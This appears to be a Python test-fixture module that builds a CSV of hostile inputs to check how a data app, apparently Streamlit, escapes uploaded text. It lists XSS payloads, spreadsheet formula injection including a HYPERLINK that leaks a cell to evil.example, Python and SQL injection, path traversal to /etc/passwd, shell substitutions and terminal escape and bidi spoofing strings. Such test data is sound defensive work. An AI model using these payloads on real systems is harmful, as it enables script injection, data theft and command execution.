"""Texts, columns, labels and a file name that want to be more than words, each for a place that might believe them."""

import csv
import io

PAGE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)> and '><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<!-- comment --> &lt;b&gt; &amp; &#60;img src=x&#62;",
    "<details open ontoggle=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "javascript:/*--></title></style></textarea><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]
MARKDOWN = [
    "[click](javascript:alert(1)) and **bold**",
    "![picture](https://evil.example/x.png)",
    "<https://evil.example> or https://evil.example/a?b=c",
    "see www.evil.example or write to me@evil.example",
    "**strong** *weak* ~~gone~~ `code` __u__",
    "# a heading",
    "> a quote",
    "- [ ] an item",
    "1. first of a list",
    "| a | b |",
    "```python print(1) ```",
    ":red[coloured] and :blue-badge[a badge]",
    "an icon :material/delete: or :material_delete:",
    "the logo :streamlit: and a face :smile:",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "[reference]: https://evil.example",
    "a footnote[^1]",
    "formula $\\href{javascript:alert(1)}{x}$ and $$y^2$$ \\(z\\)",
]
PLOTLY = [
    "%{x} is %{y} <b>bold</b><br>and <extra>more</extra>",
    "%{customdata[0]} %{text} %{fullData.name}",
    '<a href="https://evil.example">a link in a hover</a>',
    "<sup>up</sup><span style='color:red'>red</span>",
]
TERMINAL = [
    "red \x1b[31malert\x1b[0m and a title \x1b]0;owned\x07",
    "one byte for escape \x9b31m in red",
    "name \u202egpj.exe turned round",
    "isolated \u2066left \u2067right \u2069ends",
    "bell \x07 back\x08space and return\rover it",
    "a separator \u2028 of lines \u2029 and of paragraphs",
]
SHEET = [
    "=cmd|' /C calc'!A0",
    "+1+1 is a sum",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 behind a tab",
    " \u00a0=1+1 behind spaces",
    "\u200b=1+1 behind nothing that can be seen",
    "＝1+1 in full width",
    "_x003D_1+1 in numbers",
    "#REF! is no error",
    '=HYPERLINK("https://evil.example?leak="&A1,"click")',
]
PROGRAM = [
    '"); import os; os.system("touch owned") #',
    "''' + __import__('os').system('touch owned') + '''",
    '""" and \\" and \\',
    "{0} {text} %s %n %(name)s $HOME `id` $(id)",
    "'; DROP TABLE embeddings; --",
    "\\N{BULLET} \\u0041 \\x41",
    "../../../../etc/passwd",
    "NaN",
    "undefined",
]
LONG = ["<b>" * 1500, "Z\u0351\u036b\u0343a\u033d\u0346l\u0313\u036cg\u0363o\u0358 text " * 20, "شكرا جزيلا **لكم**"]
TEXTS = [*PAGE, *MARKDOWN, *PLOTLY, *TERMINAL, *SHEET, *PROGRAM, *LONG]

TEXT, LABEL = "<img src=x onerror=alert(2)> **text** %{y}", "=cmd|'x'!A0 :material_delete: $label$"
NUMBER, DAY = "[number](javascript:alert(3))", "<script>alert(4)</script>\u202e day"
# Names that pages give to columns of their own.
TAKEN = [
    "cluster",
    "selected",
    "score",
    "distance",
    "stays",
    "to the kept",
    "label",
    "text",
    "group",
    "Cluster (found)",
]
LABELS = [
    "<img src=x onerror=alert(5)>",
    "[label](javascript:alert(6))",
    "%{x} <b>label</b> $x$",
    ":streamlit: at www.evil.example",
]
FILE = '"><img src=x onerror=alert(7)> [file](javascript:alert(8)) \u202efdp.csv'


def table(texts=TEXTS):
    """The file: a row for each text, with a label, a number, a day, and columns that are called as ours."""
    stream = io.StringIO()
    writer = csv.writer(stream)
    writer.writerow([TEXT, LABEL, NUMBER, DAY, *TAKEN])
    for number, text in enumerate(texts):
        label = LABELS[number % len(LABELS)]
        writer.writerow([text, label, number, f"2026-01-{number % 28 + 1:02}", *[f"**{number}**"] * len(TAKEN)])
    return stream.getvalue().encode()
